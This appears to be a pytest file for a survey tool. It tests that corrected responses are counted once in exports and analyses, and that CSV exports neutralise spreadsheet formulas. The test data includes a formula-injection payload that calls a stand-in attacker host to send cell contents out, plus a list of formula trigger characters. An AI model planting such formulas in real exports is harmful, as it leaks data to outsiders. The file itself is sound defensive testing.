"""Exports, analyses and snapshots count a corrected respondent once (issue #24), and CSV exports
cannot run a respondent's text as a spreadsheet formula (issue #14).

The demo (1,151 responses) is loaded once per backend; one field interview is then corrected with a
comment that a spreadsheet would run, and every reader is checked against that.
"""

from __future__ import annotations

import csv
import uuid as uuid_lib
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
import typer
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from survey.analyst.services import WeightingSpec, load_context, run_analysis
from survey.analyst.snapshots import freeze_content
from survey.analyst.spreadsheet import neutralise_frame
from survey.cli import export
from survey.store.db import transaction
from survey.store.models import Answer, Mode, Response
from survey.store.services.consultations import ConsultationService
from survey.store.services.responses import AckStatus, ResponseService, Submission
from tests.analyst.conftest import SLUG

app = typer.Typer()
app.callback()(lambda: None)  # a group, so the command is called by name as in `survey export`
export.register(app)
runner = CliRunner()
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
TOTAL = 1151


@dataclass(frozen=True)
class Corrected:
    original: str
    correction: str


def _answers(session: Session, response_id: int) -> dict[str, object]:
    """A stored response's answers as a client would send them again."""
    answers: dict[str, object] = {}
    rows = session.execute(
        select(Answer.question, Answer.position, Answer.value_text, Answer.value_number)
        .where(Answer.response_id == response_id)
        .order_by(Answer.question, Answer.position)
    ).all()
    multiple = {q for q, position, _, _ in rows if position > 0}
    for question, _, text, number in rows:
        value = number if number is not None else text
        if question in multiple:
            answers.setdefault(question, [])
            answers[question].append(value)  # type: ignore[union-attr]
        else:
            answers[question] = value
    return answers


@pytest.fixture(scope="module")
def corrected(demo: sessionmaker[Session]) -> Corrected:
    """Correct the first field interview of the demo: same answers, a formula as comment."""
    with transaction(demo) as session:
        consultations = ConsultationService(session)
        version = consultations.current_version(consultations.get(SLUG))
        original = session.scalars(
            select(Response).where(Response.mode == Mode.FIELD.value).order_by(Response.id)
        ).first()
        assert original is not None
        answers = {**_answers(session, original.id), "comment": FORMULA}
        correction = str(uuid_lib.uuid4())
        ack = ResponseService(session).submit(
            Submission(
                uuid=correction, version=version, mode=Mode.FIELD, language=original.language,
                answers=answers, replaces_uuid=original.uuid,
            )
        )  # fmt: skip
        assert ack.status is AckStatus.STORED
        return Corrected(original.uuid, correction)


def _export(demo_url: str, out: Path, *extra: str) -> str:
    result = runner.invoke(app, ["export", SLUG, "--out", str(out), "--database-url", demo_url, *extra])
    assert result.exit_code == 0, result.output
    return result.output


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return {row["uuid"]: row for row in csv.DictReader(handle)}


def test_analysis_and_snapshot_count_the_corrected_respondent_once(
    demo: sessionmaker[Session], corrected: Corrected
) -> None:
    with demo() as session:
        context = load_context(session, SLUG)
    uuids = set(context.frame["uuid"])
    assert corrected.correction in uuids and corrected.original not in uuids
    assert context.frame.height == TOTAL
    analysis = run_analysis(context, WeightingSpec(method="rake"))
    assert freeze_content(context, analysis)["n"]["all"] == TOTAL
    assert analysis.design.weights.size == TOTAL


def test_csv_export_links_the_correction_and_neutralises_formulas(
    demo: sessionmaker[Session], corrected: Corrected, demo_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "data.csv"
    printed = _export(demo_url, out)
    rows = _rows(out)
    assert len(rows) == TOTAL and corrected.original not in rows
    row = rows[corrected.correction]
    assert row["replaces_uuid"] == corrected.original and row["superseded_by"] == ""
    assert row["comment"] == "'" + FORMULA
    assert all(not r["comment"].startswith(("=", "+", "-", "@")) for r in rows.values())
    assert float(row["weight"]) > 0  # numbers stay numbers
    book = pd.read_csv(tmp_path / "data.codebook.csv")
    variables = set(book["variable"])
    assert {"replaces_uuid", "superseded_by"} <= variables
    assert book["label"].str.contains("apostrophe").any() and "--raw" in printed


def test_raw_csv_keeps_the_text_as_typed(
    demo: sessionmaker[Session], corrected: Corrected, demo_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "raw.csv"
    _export(demo_url, out, "--raw")
    assert _rows(out)[corrected.correction]["comment"] == FORMULA


def test_audit_export_adds_the_original_without_weight(
    demo: sessionmaker[Session], corrected: Corrected, demo_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "audit.csv"
    printed = _export(demo_url, out, "--with-superseded")
    rows = _rows(out)
    assert len(rows) == TOTAL + 1 and "+ 1 superseded" in printed
    original = rows[corrected.original]
    assert original["superseded_by"] == corrected.correction and original["weight"] == ""
    assert original["comment"] != "'" + FORMULA


def test_spss_keeps_the_text_and_the_export_says_so(
    demo: sessionmaker[Session], corrected: Corrected, demo_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "data.sav"
    printed = _export(demo_url, out, "--format", "sav")
    frame, _ = pyreadstat.read_sav(str(out))
    assert len(frame) == TOTAL
    assert frame.loc[frame["uuid"] == corrected.correction, "comment"].item() == FORMULA
    assert "kept as typed" in printed and "comment (1)" in printed
    book = pd.read_csv(tmp_path / "data.codebook.csv")
    assert book["label"].str.contains("kept as typed").any()


def test_negative_numbers_stay_numbers_and_negative_text_is_neutralised() -> None:
    frame = pd.DataFrame({"balance": [-3.5, 2.0], "note": ["-3.5", "@SUM(A1)"], "ok": ["fine", None]})
    safe = neutralise_frame(frame)
    assert safe["balance"].tolist() == [-3.5, 2.0] and safe["balance"].dtype == float
    assert safe["note"].tolist() == ["'-3.5", "'@SUM(A1)"]
    assert safe["ok"].tolist()[0] == "fine" and pd.isna(safe["ok"].tolist()[1])
    for trigger in ("=1+1", "+1", "\tx", "\rx"):
        assert neutralise_frame(pd.DataFrame({"t": [trigger]}))["t"][0] == "'" + trigger
